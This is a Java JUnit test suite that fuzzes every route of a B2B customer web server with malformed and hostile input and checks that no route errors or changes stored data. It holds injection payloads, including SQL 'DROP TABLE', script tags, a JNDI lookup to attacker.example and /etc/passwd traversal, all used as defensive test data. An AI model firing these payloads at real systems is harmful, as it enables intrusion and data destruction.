package org.b2b.customers.web;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.IntPredicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every route a server registered, API and pages, sent what clients get wrong and what attackers try: malformed,
 * wrongly typed and wrongly labelled bodies, malformed multipart forms, huge and deeply nested bodies, ids and
 * cursors that are none, injection strings, NUL, control, right-to-left and unpaired surrogate characters, and no
 * token at all. None may answer 5xx; a refusal is a problem document on the API and a page on the HTML routes; and
 * nothing stored changes, as the administrator reads it back through the API.
 *
 * <p>A subclass starts the server: the web server over the in-memory system, or the real server on H2 or on
 * PostgreSQL. The suite makes its data through the public API, so that one list of attacks serves every store.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
public abstract class BadInputSuite {

    private static final String API = "/api/v1";
    private static final String JSON = "application/json";
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String MULTIPART = "multipart/form-data";

    /** Text that is valid JSON but hostile: SQL and script injection, NUL and other controls, bidi overrides. */
    private static final List<String> HOSTILE_TEXT = List.of(
            "'; DROP TABLE companies; --\u0000",
            "\" OR \"1\"=\"1\u0007",
            "<script>alert(1)</script>\u202Egnp.exe",
            "${jndi:ldap://attacker.example/a}\u0008",
            "\u202B\u200F\u2066ﻣﺮﺣﺒﺎ\u0085\u001B[31m",
            "../../../../etc/passwd\r\nX-Injected: 1");

    private static final List<String> NOT_IDS = List.of(
            "not-a-uuid", "00000000-0000-0000-0000-00000000000G", "%27%20OR%20%271%27%3D%271", "%00",
            "..%2F..%2Fetc%2Fpasswd", "12345678123456781234567812345678", "%E2%80%AE", "x%00y", "%ED%A0%80");

    private static final List<String> MALFORMED_JSON = List.of(
            "{\"name\": \"unterminated", "not json at all", "{\"a\":1} trailing", "{'single':'quotes'}",
            "{\"dup\":1,\"dup\":2}", "null", "[]", "\"a string\"", "42", "\u0000\u0001\u0002",
            "{\"name\":\"raw \u0000 NUL\"}");

    /** Every field any route reads: what the JSON attacks fill in. */
    private static final List<String> FIELDS = List.of("name", "taxId", "customerGroupId", "salesRepresentativeId",
            "website", "status", "memberId", "userId", "role", "firstName", "lastName", "phone", "token", "password",
            "type", "street", "postalCode", "city", "region", "country", "email", "number", "placedAt",
            "placedByMemberId", "currency", "total", "identifier", "globalPriceRate", "audience");

    /** The pages anyone may open: all others are behind sign-in. */
    private static final List<String> OPEN_PAGES = List.of("/", "/login", "/language", "/register/{token}");

    private static final Pattern FORM_TOKEN = Pattern.compile("name=\"formToken\" value=\"([^\"]+)\"");

    private ApiClient api;
    private List<String> endpoints;
    private JsonNode openApi;
    private String admin;
    private String adminEmail;
    private String adminPassword;
    private final Map<String, String> ids = new LinkedHashMap<>();

    /** A started server, with its first administrator's credentials and every endpoint it registered. */
    public record Target(ApiClient api, String adminEmail, String adminPassword, List<String> endpoints) {}

    /** Starts the server under attack, with a directory of its own for whatever it keeps in files. */
    protected abstract Target start(Path directory) throws Exception;

    /** Stops it, and whatever it ran on. */
    protected abstract void stop() throws Exception;

    @BeforeAll
    void startAndMakeData(@TempDir Path directory) throws Exception {
        Target target = start(directory);
        api = target.api();
        endpoints = target.endpoints();
        admin = api.tokenOf(target.adminEmail(), target.adminPassword());
        adminEmail = target.adminEmail();
        adminPassword = target.adminPassword();
        openApi = ok(api.get(API + "/openapi.json", admin));
        String me = ok(api.get(API + "/me", admin)).get("userId").asText();
        String group = created(api.post(API + "/customer-groups", admin,
                Map.of("identifier", "badinput", "name", "Bad input", "globalPriceRate", "0"))).get("id").asText();
        String company = created(api.post(API + "/companies", admin, Map.of("name", "Acme Industrial",
                "taxId", "DE123456788", "customerGroupId", group, "salesRepresentativeId", me))).get("id").asText();
        String companyPath = API + "/companies/" + company;
        String buyer = created(api.post(API + "/users", admin, Map.of("email", "buyer@acme.example",
                "firstName", "Bea", "lastName", "Buyer", "type", "CUSTOMER", "roles", List.of(),
                "password", "a long enough password"))).get("id").asText();
        String member = created(api.post(companyPath + "/members", admin,
                Map.of("userId", buyer, "role", "company_buyer"))).get("id").asText();
        String invitation = ok(api.post(companyPath + "/invitations", admin, Map.of("invitations",
                List.of(Map.of("email", "invited@acme.example", "role", "company_buyer")))))
                .get("results").get(0).get("invitationId").asText();
        String link = ok(api.get(companyPath + "/invitations/" + invitation + "/link", admin)).get("url").asText();
        String address = created(api.post(companyPath + "/addresses", admin, Map.of("type", "SHIPPING",
                "name", "Acme Lager", "street", "Lagerweg 2", "postalCode", "20457", "city", "Hamburg",
                "country", "DE"))).get("id").asText();
        String order = created(api.post(companyPath + "/orders", admin, Map.of("number", "SO-1",
                "placedAt", "2020-01-05T10:00:00Z", "status", "PLACED", "currency", "EUR", "total", "9.99")))
                .get("id").asText();
        ids.put("group", group);
        ids.put("id", company);
        ids.put("memberId", member);
        ids.put("invitationId", invitation);
        ids.put("addressId", address);
        ids.put("orderId", order);
        ids.put("identifier", "company_buyer");
        ids.put("token", link.substring(link.lastIndexOf('/') + 1));
    }

    @AfterAll
    void stopServer() throws Exception {
        stop();
    }

    @TestFactory
    Stream<DynamicTest> no_route_answers_5xx_or_an_unexplained_4xx_or_changes_anything_for_bad_input() {
        assertThat(endpoints).as("the server's endpoints").isNotEmpty();
        return endpoints.stream().map(endpoint -> DynamicTest.dynamicTest(endpoint, () -> {
            Route route = routeOf(endpoint);
            String stored = snapshot();
            SoftAssertions softly = new SoftAssertions();
            for (Attempt attempt : attempts(route)) {
                try {
                    check(softly, route, attempt, send(route, attempt));
                } catch (UncheckedIOException e) {
                    softly.fail(attempt.label() + ": no answer (" + e.getMessage() + ")");
                }
            }
            softly.assertThat(snapshot()).as("stored data after bad input to " + endpoint).isEqualTo(stored);
            softly.assertAll();
        }));
    }

    /** What a route is: whether it needs a token, what body it reads, and whether it answers pages or JSON. */
    private record Route(String method, String template, boolean open, String bodyType, boolean pages,
            boolean signedIn) {

        boolean reads(String mediaType) {
            return mediaType.equals(bodyType);
        }
    }

    private Route routeOf(String endpoint) {
        String method = endpoint.substring(0, endpoint.indexOf(' '));
        String template = endpoint.substring(endpoint.indexOf(' ') + 1);
        if (!template.startsWith(API + "/")) {
            boolean pages = !template.startsWith("/health/");
            // Handlers that run before others ("*") are no pages of their own.
            boolean signedIn = pages && template.startsWith("/") && !OPEN_PAGES.contains(template)
                    && !template.startsWith("/assets/");
            // The language switch reads one choice and ignores any other: there is no form to attack.
            boolean form = pages && method.equals("POST") && !template.equals("/language");
            return new Route(method, template, !signedIn, form ? FORM : null, pages, signedIn);
        }
        JsonNode operation = openApi.get("paths").get(template).get(method.toLowerCase(Locale.ROOT));
        assertThat(operation).as(endpoint + " in the OpenAPI document").isNotNull();
        boolean open = operation.has("security") && operation.get("security").isEmpty();
        String bodyType = operation.has("requestBody")
                ? operation.get("requestBody").get("content").fieldNames().next()
                : null;
        return new Route(method, template, open, bodyType, false, false);
    }

    /** What an answer must be: any answer but a server error, a refusal, or one status. */
    private record Expect(String description, IntPredicate accepts) {

        static final Expect ANSWERED = new Expect("no server error", status -> status < 500);
        static final Expect REFUSED = new Expect("a 4xx refusal", status -> status >= 400 && status < 500);

        static Expect status(int expected) {
            return new Expect(Integer.toString(expected), status -> status == expected);
        }
    }

    /**
     * One request: a path, a token (null: none), a body (null: none) with its Content-Type (null: none) and other
     * headers; a refusal that names a field must name {@code field}.
     */
    private record Attempt(String label, Expect expect, String path, String token, String contentType, byte[] body,
            String field, String... headers) {

        Attempt field(String name) {
            return new Attempt(label, expect, path, token, contentType, body, name, headers);
        }
    }

    private static Attempt attempt(String label, Expect expect, String path, String token, String contentType,
            String body, String... headers) {
        return new Attempt(label, expect, path, token, contentType, body == null ? null : body.getBytes(UTF_8), null,
                headers);
    }

    private List<Attempt> attempts(Route route) {
        if (route.signedIn()) {
            return signedInAttempts(route);
        }
        List<Attempt> attempts = new ArrayList<>();
        String path = fill(route.template(), Map.of());
        String token = route.pages() ? null : admin;
        String type = route.bodyType();
        String body = route.reads(JSON) ? "{}" : route.reads(FORM) ? "firstName=x" : null;
        if (!route.open()) {
            attempts.add(attempt("no token", Expect.REFUSED, path, null, type, body));
            attempts.add(attempt("a token that is none", Expect.REFUSED, path, "' OR 1=1 --", type, body));
        }
        for (String param : paramsOf(route.template())) {
            for (String notId : NOT_IDS) {
                attempts.add(attempt(param + "=" + notId, Expect.REFUSED, fill(route.template(), Map.of(param, notId)),
                        token, type, route.reads(JSON) ? hostileBody() : body));
            }
        }
        if (route.method().equals("GET")) {
            attempts.addAll(queries(route, path));
        }
        if (route.reads(JSON)) {
            attempts.addAll(jsonBodies(path));
            attempts.addAll(malformedMultipart(path));
        }
        if (route.reads(MULTIPART)) {
            attempts.addAll(uploads(path));
        }
        if (route.reads(FORM)) {
            attempts.addAll(forms(path));
        }
        if (route.method().equals("PUT") || route.method().equals("PATCH")) {
            attempts.add(attempt("stale If-Match", Expect.REFUSED, path, token, JSON, "{}", "If-Match", "\"999999\""));
            attempts.add(attempt("bad If-Match", Expect.REFUSED, path, token, JSON, "{}", "If-Match", "' OR 1=1"));
        }
        return attempts;
    }

    private List<Attempt> queries(Route route, String path) {
        List<Attempt> attempts = new ArrayList<>();
        String token = route.pages() ? null : admin;
        for (String text : HOSTILE_TEXT) {
            String query = "?q=" + encode(text) + "&status=" + encode(text) + "&type=" + encode(text) + "&role="
                    + encode(text) + "&userId=" + encode(text) + "&policy=" + encode(text) + "&companyId=" + encode(text);
            attempts.add(attempt("hostile query", Expect.ANSWERED, path + query, token, null, null));
        }
        for (String page : List.of("?limit=-1", "?limit=0", "?limit=1000000000000", "?limit=%00", "?cursor=%00",
                "?cursor=" + "A".repeat(5000), "?cursor=%E2%80%AE%27--", "?limit=1&limit=2",
                "?cursor=" + cursorOf("\u0000", "00000000-0000-0000-0000-000000000000"),
                "?cursor=" + cursorOf("acme\u0000", "not-an-id"), "?q=" + "a".repeat(5000), "?q=" + "a".repeat(201),
                "?q=" + encode(" - . – "), "?q=%25", "?q=_", "?q=%5C", "?q=" + encode("DE 123\u00A0456-789"),
                "?q=%ED%A0%80", "?q=%C0%80", "?q=%FF")) {
            attempts.add(attempt("query " + page, Expect.ANSWERED, path + page, token, null, null));
        }
        Expect nulRefused = route.pages() ? Expect.REFUSED : Expect.status(422);
        attempts.add(attempt("NUL in q", nulRefused, path + "?q=%00", token, null, null).field("q"));
        attempts.add(attempt("NUL inside q", nulRefused, path + "?q=acme%00", token, null, null).field("q"));
        attempts.add(attempt("NUL in cursor", nulRefused, path + "?cursor=ab%00", token, null, null).field("cursor"));
        attempts.add(attempt("NUL in status", nulRefused, path + "?status=%00ACTIVE", token, null, null).field("status"));
        return attempts;
    }

    private List<Attempt> jsonBodies(String path) {
        List<Attempt> attempts = new ArrayList<>();
        for (String json : MALFORMED_JSON) {
            attempts.add(attempt("malformed " + json, Expect.REFUSED, path, admin, JSON, json));
        }
        attempts.add(attempt("wrong types", Expect.REFUSED, path, admin, JSON, wronglyTypedBody()));
        attempts.add(attempt("hostile text", Expect.ANSWERED, path, admin, JSON, hostileBody()));
        attempts.add(attempt("NUL in every field", Expect.status(422), path, admin, JSON, everyField("x\\u0000y")));
        attempts.add(attempt("unpaired surrogates in every field", Expect.status(422), path, admin, JSON,
                everyField("x\\ud800y")));
        attempts.add(attempt("a lone low surrogate in every field", Expect.status(422), path, admin, JSON,
                everyField("\\udc00")));
        attempts.add(attempt("deep nesting", Expect.REFUSED, path, admin, JSON,
                "{\"name\":" + "[".repeat(5000) + "]".repeat(5000) + "}"));
        attempts.add(attempt("huge body", Expect.REFUSED, path, admin, JSON,
                "{\"name\":\"" + "x".repeat((int) WebServer.MAX_REQUEST_BYTES + 10) + "\"}"));
        for (String type : new String[] {null, "text/plain", FORM, MULTIPART + "; boundary=x", "application/jsonp",
                "application/json-patch+json", "application/problem+json", "text/json", "application/json5",
                "application", "/json", "application/json, text/plain", "*/*", ";charset=utf-8"}) {
            attempts.add(attempt("JSON sent as " + type, Expect.status(415), path, admin, type, "{}"));
        }
        for (String type : List.of("application/json; charset=utf-8", "Application/JSON", "application/json;charset=UTF-8",
                "application/json ; charset=\"utf-8\"")) {
            attempts.add(attempt("wrong types sent as " + type, Expect.status(400), path, admin, type,
                    wronglyTypedBody()));
        }
        return attempts;
    }

    private List<Attempt> uploads(String path) {
        List<Attempt> attempts = new ArrayList<>();
        attempts.add(attempt("JSON to an upload", Expect.status(415), path, admin, JSON, "{\"role\":\"company_buyer\"}"));
        attempts.add(attempt("a file with no Content-Type", Expect.status(415), path, admin, null,
                multipartBody("x", "company_buyer", "anna@acme.example\n")));
        attempts.add(attempt("NUL in a form field", Expect.status(422), path, admin, MULTIPART + "; boundary=x",
                multipartBody("x", "company_buyer\u0000", "anna@acme.example\n")).field("role"));
        attempts.add(attempt("NUL in the file", Expect.status(422), path, admin, MULTIPART + "; boundary=x",
                multipartBody("x", "company_buyer", "anna@acme.example\u0000\n")).field("file"));
        attempts.add(attempt("a file too large", Expect.status(413), path, admin, MULTIPART + "; boundary=x",
                multipartBody("x", "company_buyer", "a@b.example\n".repeat((int) (WebServer.MAX_UPLOAD_BYTES / 12) + 1))));
        return attempts;
    }

    /**
     * The registration form: forgeries are refused; so are forms that cannot be read and wrong fields, also when
     * they come with the cookie and token of the site's own page, as an attacker who opened the link has them.
     */
    private List<Attempt> forms(String path) {
        List<Attempt> attempts = new ArrayList<>();
        Map<String, String> valid = new LinkedHashMap<>(Map.of("firstName", "Anna", "lastName", "Schmidt",
                "password", "a long enough password", "passwordConfirmation", "a long enough password"));
        valid.put("formToken", "not the page's token");
        attempts.add(attempt("a form without the page's cookie", Expect.REFUSED, path, null, FORM, form(valid)));
        attempts.add(attempt("a huge form", Expect.status(413), path, null, FORM,
                "firstName=" + "x".repeat((int) WebServer.MAX_REQUEST_BYTES + 10)));
        malformedMultipartBodies().forEach((label, typeAndBody) ->
                attempts.add(attempt(label, Expect.REFUSED, path, null, typeAndBody[0], typeAndBody[1])));
        Reply page = api.get(path, null);
        Matcher formToken = FORM_TOKEN.matcher(page.body());
        if (page.status() != 200 || !formToken.find()) {
            return attempts;
        }
        String cookie = page.header("Set-Cookie").split(";", 2)[0];
        valid.put("formToken", formToken.group(1));
        for (String field : List.of("firstName", "lastName", "password")) {
            Map<String, String> fields = new LinkedHashMap<>(valid);
            fields.put(field, fields.get(field) + "\u0000");
            if (field.equals("password")) {
                fields.put("passwordConfirmation", fields.get(field));
            }
            attempts.add(attempt("with the page's cookie, NUL in " + field, Expect.status(422), path, null, FORM,
                    form(fields), "Cookie", cookie));
        }
        malformedMultipartBodies().forEach((label, typeAndBody) -> attempts.add(attempt(
                "with the page's cookie, " + label, Expect.status(400), path, null, typeAndBody[0], typeAndBody[1],
                "Cookie", cookie)));
        return attempts;
    }

    /**
     * A page behind sign-in: without a session it sends the visitor to sign in and does nothing else; in a session,
     * ids that are none lead to the "not found" page, and a form is refused without the session's form token, from
     * another site, unreadable, too large or with a NUL in any field.
     */
    private List<Attempt> signedInAttempts(Route route) {
        List<Attempt> attempts = new ArrayList<>();
        String path = fill(route.template(), Map.of());
        boolean form = route.method().equals("POST");
        String[] session = signIn();
        String cookie = session[0];
        String body = form ? form(Map.of("formToken", session[1])) : null;
        String type = form ? FORM : null;
        if (!form && api.send("GET", path, null, null, "Cookie", cookie).status() == 405) {
            attempts.add(attempt("a GET of a form's address", Expect.status(405), path, null, null, null));
            attempts.add(attempt("a GET of a form's address in a session", Expect.status(405), path, null, null, null,
                    "Cookie", cookie));
            return attempts;
        }
        attempts.add(attempt("no session", Expect.status(303), path, null, type, body));
        attempts.add(attempt("a session that is none", Expect.status(303), path, null, type, body,
                "Cookie", "cm_session=' OR 1=1 --"));
        for (String param : paramsOf(route.template())) {
            for (String notId : NOT_IDS) {
                attempts.add(attempt(param + "=" + notId, Expect.REFUSED, fill(route.template(), Map.of(param, notId)),
                        null, type, body, "Cookie", cookie));
            }
        }
        if (!form) {
            for (String text : HOSTILE_TEXT) {
                attempts.add(attempt("hostile query", Expect.ANSWERED, path + "?q=" + encode(text) + "&sort="
                        + encode(text) + "&status=" + encode(text) + "&country=" + encode(text), null, null, null,
                        "Cookie", cookie));
            }
            attempts.add(attempt("NUL in q", Expect.REFUSED, path + "?q=%00", null, null, null, "Cookie", cookie));
            return attempts;
        }
        attempts.add(attempt("no form token", Expect.status(403), path, null, FORM, "name=x", "Cookie", cookie));
        attempts.add(attempt("another session's form token", Expect.status(403), path, null, FORM,
                form(Map.of("formToken", signIn()[1], "name", "x")), "Cookie", cookie));
        attempts.add(attempt("from another site", Expect.status(403), path, null, FORM, body, "Cookie", cookie,
                "Origin", "https://attacker.example"));
        attempts.add(attempt("a huge form", Expect.status(413), path, null, FORM,
                "formToken=" + session[1] + "&name=" + "x".repeat((int) WebServer.MAX_REQUEST_BYTES + 10),
                "Cookie", cookie));
        malformedMultipartBodies().forEach((label, typeAndBody) -> attempts.add(attempt(label, Expect.REFUSED, path,
                null, typeAndBody[0], typeAndBody[1], "Cookie", cookie)));
        if (!route.template().equals("/logout")) {
            Map<String, String> fields = new LinkedHashMap<>();
            fields.put("formToken", session[1]);
            FIELDS.forEach(field -> fields.put(field, "x\u0000y"));
            attempts.add(attempt("NUL in every field", Expect.status(422), path, null, FORM, form(fields),
                    "Cookie", cookie));
        }
        return attempts;
    }

    /** Signs the administrator in as a browser does: the session's cookie, and the token its forms carry. */
    private String[] signIn() {
        Reply page = api.get("/login", null);
        Matcher loginToken = FORM_TOKEN.matcher(page.body());
        assertThat(loginToken.find()).as("the sign-in form's token").isTrue();
        Reply signedIn = api.sendBytes("POST", "/login", null, FORM, form(Map.of("email", adminEmail,
                "password", adminPassword, "formToken", loginToken.group(1))).getBytes(UTF_8),
                "Cookie", page.header("Set-Cookie").split(";", 2)[0]);
        assertThat(signedIn.status()).as("signing in").isEqualTo(303);
        String cookie = signedIn.header("Set-Cookie").split(";", 2)[0];
        Matcher formToken = FORM_TOKEN.matcher(api.send("GET", "/companies/new", null, null, "Cookie", cookie).body());
        assertThat(formToken.find()).as("a signed-in form's token").isTrue();
        return new String[] {cookie, formToken.group(1)};
    }

    private static String form(Map<String, String> fields) {
        StringBuilder form = new StringBuilder();
        fields.forEach((name, value) -> form.append(form.length() == 0 ? "" : "&").append(name).append('=')
                .append(encode(value)));
        return form.toString();
    }

    /** Multipart bodies that cannot be read, on a route that reads JSON: 415, the body is not JSON. */
    private List<Attempt> malformedMultipart(String path) {
        List<Attempt> attempts = new ArrayList<>();
        malformedMultipartBodies().forEach((label, typeAndBody) -> attempts.add(attempt(label, Expect.status(415),
                path, admin, typeAndBody[0], typeAndBody[1])));
        return attempts;
    }

    private static Map<String, String[]> malformedMultipartBodies() {
        String part = "Content-Disposition: form-data; name=\"role\"\r\n\r\ncompany_buyer\r\n";
        String file = "Content-Disposition: form-data; name=\"file\"; filename=\"people.csv\"\r\n"
                + "Content-Type: text/csv\r\n\r\nanna@acme.example\n";
        Map<String, String[]> bodies = new LinkedHashMap<>();
        bodies.put("multipart without a boundary", new String[] {MULTIPART, "--x\r\n" + part + "--x--\r\n"});
        bodies.put("multipart with another boundary", new String[] {MULTIPART + "; boundary=abc",
                "--x\r\n" + part + "--x\r\n" + file + "\r\n--x--\r\n"});
        bodies.put("truncated multipart", new String[] {MULTIPART + "; boundary=x", "--x\r\n" + part + "--x\r\n" + file});
        bodies.put("a form body under a multipart type", new String[] {MULTIPART + "; boundary=x",
                "firstName=Anna&lastName=Schmidt"});
        bodies.put("an empty multipart body", new String[] {MULTIPART + "; boundary=x", ""});
        bodies.put("a part without headers", new String[] {MULTIPART + "; boundary=x",
                "--x\r\nno colon here\r\n\r\nvalue\r\n--x--\r\n"});
        bodies.put("an empty boundary", new String[] {MULTIPART + "; boundary=", "--\r\n" + part + "----\r\n"});
        return bodies;
    }

    private static String multipartBody(String boundary, String role, String file) {
        return "--" + boundary + "\r\nContent-Disposition: form-data; name=\"role\"\r\n\r\n" + role + "\r\n"
                + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"people.csv\"\r\n"
                + "Content-Type: text/csv\r\n\r\n" + file + "\r\n--" + boundary + "--\r\n";
    }

    private Reply send(Route route, Attempt attempt) {
        return api.sendBytes(route.method(), attempt.path(), attempt.token(), attempt.contentType(), attempt.body(),
                attempt.headers());
    }

    private void check(SoftAssertions softly, Route route, Attempt attempt, Reply reply) {
        String label = attempt.label() + " → " + reply.status() + " " + abbreviated(reply.body());
        softly.assertThat(reply.status()).as(label).isLessThan(500);
        softly.assertThat(attempt.expect().accepts().test(reply.status()))
                .as(label + ": expected " + attempt.expect().description()).isTrue();
        if (reply.status() < 400) {
            return;
        }
        softly.assertThat(reply.body()).as(label).doesNotContain("Exception").doesNotContain("\tat ");
        String type = reply.header("Content-Type");
        if (route.pages() && !unparsable(reply)) {
            softly.assertThat(type).as(label + ": a page").startsWith("text/html");
            return;
        }
        softly.assertThat(type).as(label).startsWith(Problems.CONTENT_TYPE);
        if (type != null && type.startsWith(Problems.CONTENT_TYPE)) {
            JsonNode problem = reply.json();
            softly.assertThat(problem.get("status").asInt()).as(label).isEqualTo(reply.status());
            softly.assertThat(problem.get("title").asText()).as(label).isNotBlank();
            if (attempt.field() != null && reply.status() == 422) {
                softly.assertThat(texts(problem.get("errors"), "field")).as(label).contains(attempt.field());
            }
            if (reply.status() == 422) {
                softly.assertThat(texts(problem.get("errors"), "field")).as(label + ": names the field")
                        .isNotEmpty().doesNotContain("body");
            }
        }
    }

    /**
     * Jetty's answer to a request line it cannot parse (an encoded NUL in the path): it has no path yet to tell a
     * page from the API by, so it is the server-wide problem document, and the connection closes.
     */
    private static boolean unparsable(Reply reply) {
        return reply.status() == 400 && "close".equalsIgnoreCase(reply.header("Connection"))
                && String.valueOf(reply.header("Content-Type")).startsWith(Problems.CONTENT_TYPE)
                && reply.json().path("code").asText().equals("http.400");
    }

    private String fill(String template, Map<String, String> overrides) {
        Map<String, String> values = new LinkedHashMap<>(ids);
        if (template.startsWith(API + "/customer-groups")) {
            values.put("id", ids.get("group"));
        }
        values.putAll(overrides);
        String path = template;
        for (Map.Entry<String, String> value : values.entrySet()) {
            path = path.replace("{" + value.getKey() + "}", value.getValue());
        }
        return path;
    }

    private static List<String> paramsOf(String template) {
        List<String> params = new ArrayList<>();
        Matcher matcher = Pattern.compile("\\{([^}]+)}").matcher(template);
        while (matcher.find()) {
            params.add(matcher.group(1));
        }
        return params;
    }

    /** Every field any route reads, each with a JSON type it does not take. */
    private static String wronglyTypedBody() {
        return """
                {"name": 5, "taxId": true, "customerGroupId": 1.5, "salesRepresentativeId": [], "website": {},
                 "billingAddress": "Main Street", "status": 1, "memberId": false, "userId": {"id": 1}, "role": [],
                 "firstName": 1, "lastName": true, "phone": 49, "invitations": "a@b.c", "token": 7,
                 "password": ["secret"], "type": 1, "street": 2, "postalCode": 10115, "city": [], "region": {},
                 "country": 49, "email": true, "isDefault": "yes", "number": 1001, "placedAt": 1700000000,
                 "placedByMemberId": 3, "currency": 978, "total": 9.99, "identifier": 1, "globalPriceRate": [],
                 "roles": "administrator", "audience": true, "policies": {"module": "company"}, "confirmed": "yes"}
                """;
    }

    /** Every field any route reads, as hostile text of the right JSON type. */
    private static String hostileBody() {
        Map<String, Object> body = new LinkedHashMap<>();
        int i = 0;
        for (String field : FIELDS) {
            body.put(field, HOSTILE_TEXT.get(i++ % HOSTILE_TEXT.size()));
        }
        body.put("billingAddress", Map.of("name", HOSTILE_TEXT.get(0), "country", HOSTILE_TEXT.get(2)));
        body.put("invitations", List.of(Map.of("email", HOSTILE_TEXT.get(1), "role", HOSTILE_TEXT.get(2))));
        body.put("roles", List.of(HOSTILE_TEXT.get(3)));
        body.put("policies", List.of(Map.of("module", HOSTILE_TEXT.get(4), "function", HOSTILE_TEXT.get(5))));
        return ApiClient.body(body);
    }

    /** Every field any route reads (nested ones too) holding this JSON string content, escapes as written. */
    private static String everyField(String escaped) {
        String text = "\"" + escaped + "\"";
        StringBuilder body = new StringBuilder("{");
        for (String field : FIELDS) {
            body.append('"').append(field).append("\":").append(text).append(',');
        }
        return body.append("\"billingAddress\":{\"name\":").append(text).append("},\"invitations\":[{\"email\":")
                .append(text).append(",\"role\":").append(text).append("}],\"roles\":[").append(text)
                .append("],\"policies\":[{\"module\":").append(text).append(",\"function\":").append(text)
                .append("}]}").toString();
    }

    /** A cursor as the server makes them, of a name key and an id, here holding what no stored key does. */
    private static String cursorOf(String key, String id) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString((key + '\u001F' + id).getBytes(UTF_8));
    }

    /** What is stored, as the administrator reads it through the API. */
    private String snapshot() {
        StringBuilder state = new StringBuilder();
        for (JsonNode company : items(API + "/companies?limit=200")) {
            String path = API + "/companies/" + company.get("id").asText();
            state.append(company).append('\n');
            for (String list : List.of("/members?limit=200", "/invitations?limit=200", "/addresses",
                    "/orders?limit=200", "/history?limit=200")) {
                state.append(items(path + list)).append('\n');
            }
        }
        for (String list : List.of("/users?limit=200", "/roles", "/customer-groups")) {
            state.append(items(API + list)).append('\n');
        }
        return state.toString();
    }

    private JsonNode items(String path) {
        return ok(api.get(path, admin)).get("items");
    }

    private static JsonNode ok(Reply reply) {
        assertThat(reply.status()).as(reply.body()).isEqualTo(200);
        return reply.json();
    }

    private static JsonNode created(Reply reply) {
        assertThat(reply.status()).as(reply.body()).isEqualTo(201);
        return reply.json();
    }

    private static List<String> texts(JsonNode array, String field) {
        return array == null ? List.of()
                : StreamSupport.stream(array.spliterator(), false).map(item -> item.path(field).asText()).toList();
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, UTF_8);
    }

    private static String abbreviated(String body) {
        return body.length() > 300 ? body.substring(0, 300) + "…" : body;
    }
}
